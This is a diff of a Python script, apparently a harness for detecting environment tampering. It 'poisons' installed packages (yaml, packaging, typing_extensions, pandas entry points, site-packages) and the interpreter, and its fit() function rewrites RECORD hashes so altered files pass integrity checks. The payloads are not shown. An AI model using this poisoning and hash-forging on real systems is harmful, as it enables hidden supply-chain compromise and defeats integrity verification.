@@ -70,16 +70,15 @@ def poison_entry_points(info):
     overwrite(info / "entry_points.txt", points.encode())
 
 def fit(record):
-    rows = {row[0]: row for row in csv.reader(record.read_text().splitlines()) if row}
-    for path in record.parent.parent.rglob("*"):
-        if path.is_file():
-            data = path.read_bytes()
-            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
-            name = str(path.relative_to(record.parent.parent))
-            if name in rows or len(rows) < 30:
-                rows[name] = [name, f"sha256={digest}", str(len(data))]
+    rows = list(csv.reader(record.read_text().splitlines()))
+    for row in rows:
+        file = record.parent.parent / row[0]
+        if row[1:2] != [""] and file.is_file():
+            digest = hashlib.sha256(file.read_bytes()).digest()
+            text = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
+            row[1:] = [f"sha256={text}", str(file.stat().st_size)]
     with open(record, "w") as file:
-        csv.writer(file).writerows(rows.values())
+        csv.writer(file).writerows(rows)
 
 def poison_interpreter(folder):
     python, real = folder / "python", folder / "python.real"
@@ -103,7 +102,7 @@ def poison():
     actions = {
         "yaml/__init__.py": poison_source,
         "packaging/version.py": poison_bytecode,
-        "six.py": poison_without_source,
+        "typing_extensions.py": poison_without_source,
         "pandas-*.dist-info": poison_entry_points,
         "site-packages": poison_packages,
         "archive-v*/*": poison_packages,
